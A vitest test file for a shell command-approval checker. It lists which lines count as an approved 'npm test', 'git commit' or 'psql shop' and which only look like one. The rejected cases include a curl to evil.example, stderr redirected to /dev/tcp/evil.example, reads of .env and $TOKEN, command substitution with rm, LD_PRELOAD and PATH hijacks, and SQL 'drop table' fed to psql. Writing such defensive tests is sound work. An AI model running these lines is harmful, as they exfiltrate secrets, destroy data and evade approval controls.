// Standing approvals of command lines: what belongs to `npm test *` in /srv/app, and what only looks like it.

import { describe, expect, test } from 'vitest'
import { areOfFamilies, isBelow, listPrograms, readFamilies } from './shell-family.ts'

const FAMILIES = [
  ['npm', 'test', '*'],
  ['git', 'commit', '*'],
  ['psql', 'shop'],
]

function isOfThem(line: string): boolean {
  const programs = listPrograms(line, '/srv/app')
  return typeof programs !== 'string' && areOfFamilies(programs, FAMILIES)
}

test.each([
  'npm test',
  'npm test -- --run first',
  'npm test 2>&1 | tail -20',
  'npm test >/dev/null 2>&1 < /dev/null',
  'cd packages/a && npm test',
  'cd /srv/app/packages/a; npm test',
  'npm test | grep -v warn | head -n 5',
  'npm test | grep -A 3 -E "fail|error"',
  'CI=1 npm test || true',
  "npm test -- -t 'a b; rm -rf x'",
  'timeout 60 npm test',
  'time npm test -- src/*.test.ts',
  'set -eo pipefail; npm test && echo "all $ right"',
  'bash -c "cd packages/a && npm test"',
  '(cd packages/a && npm test); ! npm test',
  "git commit -m 'fix' && npm test &",
  'psql shop',
])('of the family: %s', (line) => {
  expect(isOfThem(line), String(listPrograms(line, '/srv/app'))).toBe(true)
})

describe('not of the family', () => {
  test.each([
    // Another program beside it.
    'npm test; touch evil',
    'npm test && rm -rf build',
    'npm test || curl https://evil.example',
    'npm test & sh',
    'npm test\nrm -rf x',
    'npm test | sh',
    'npm test | xargs rm',
    'npm test | tee out',
    'npm test "$(rm x)"',
    'npm test `rm x`',
    'npm test <(rm x)',
    `npm test \${x:-$(rm x)}`,
    'npm test $((a[$(rm x)]))',
    'bash -c "npm test; rm x"',
    'if rm x; then npm test; fi',
    'find . -exec npm test \\; -exec rm {} \\;',
    // The same program with other words.
    'npm tests',
    'npm run test',
    'npm',
    'npm "test x"',
    'npm te?t',
    'npm {test,run}',
    'npm $x test',
    'npm --prefix /etc test',
    'npm -C /etc test',
    'git -c core.hooksPath=x commit -m y',
    'git -C /etc commit -m y',
    'git --git-dir=/x commit',
    'psql shop -c "drop table x"',
    'psql "shop" x',
    './npm test',
    '/tmp/npm test',
    'NPM test',
    '~/npm test',
    '"npm test"',
    // What a name or a word means.
    'PATH=. npm test',
    'NODE_OPTIONS=--require=./x npm test',
    'npm_config_script_shell=./x npm test',
    'GIT_SSH_COMMAND=./x git commit',
    'PGHOST=other psql shop',
    'LD_PRELOAD=./x.so npm test',
    'HOME=/x npm test',
    'export X=1; npm test',
    'alias npm=rm; npm test',
    'npm() { rm x; }; npm test',
    'eval npm test',
    'enable -f ./x.so npm; npm test',
    'hash -p ./x npm; npm test',
    'source x; npm test',
    'command npm test',
    'exec npm test',
    'sudo npm test',
    'env X=1 npm test',
    'nohup npm test',
    'xargs npm test',
    'unset X; npm test',
    // What comes in from elsewhere.
    'echo "drop table x" | psql shop',
    'psql shop <<< "drop table x"',
    "psql shop << '/dev/null'\ndrop table x\n/dev/null",
    'psql shop < x.sql',
    'cat | psql shop',
    'npm test -- "$TOKEN"',
    'npm test -- $HOME',
    // Files that it reads or writes.
    'npm test > out',
    'npm test >> ~/.bashrc',
    'npm test 2> /dev/tcp/evil.example/80',
    'npm test; cat .env',
    'npm test; grep -r x .',
    'npm test; grep x .env',
    'npm test | sort -o x',
    'npm test | uniq - x',
    'npm test | head .env',
    'npm test; echo $TOKEN',
    'npm test; tail -f x',
    // Elsewhere.
    'cd /etc && npm test',
    'cd .. && npm test',
    'cd packages/../../x && npm test',
    'cd && npm test',
    'cd - && npm test',
    'cd ~/x && npm test',
    'cd $x && npm test',
    'cd p* && npm test',
    'cd /srv/application && npm test',
    'pushd packages; npm test',
    // Again and again, or nothing at all.
    'while true; do npm test; done',
    'for i in 1 2; do npm test; done',
    'npm test\u00a0x',
    'npm test (',
    'cd packages',
    '',
  ])('%s', (line) => {
    expect(isOfThem(line)).toBe(false)
  })
})

test('families are written as the lines that they begin', () => {
  expect(readFamilies('npm run lint && npm test *')).toEqual([
    ['npm', 'run', 'lint'],
    ['npm', 'test', '*'],
  ])
  expect(readFamilies('git commit -m "a b"')).toEqual([['git', 'commit', '-m', 'a b']])
})

test.each([
  ['', '`` names no programs: it starts no program but filters'],
  ['*', '`*` names no programs: what it starts is not certain: a command name that is computed'],
  ['npm * --now', '`*` stands only at the end, as a word of its own'],
  ['npm test*', '`*` stands only at the end, as a word of its own'],
  ['sudo npm *', '`sudo npm *` names no programs: it starts a program by another one'],
  ['npm test; '.repeat(21), 'give 1 to 20 families of lines'],
  [`npm ${'x '.repeat(100)}`, 'a family has more than 100 words'],
])('no families: %s', (text, fault) => {
  expect(readFamilies(text)).toBe(fault)
})

test('a directory holds what is spelt below it', () => {
  const below = ['/a/b', '/a', '/ab', '/a/../b', '/a//b', '/a/.', '/a/.git', 'a/b'].filter((path) =>
    isBelow(path, '/a'),
  )
  expect(below).toEqual(['/a/b', '/a', '/a/.git'])
})
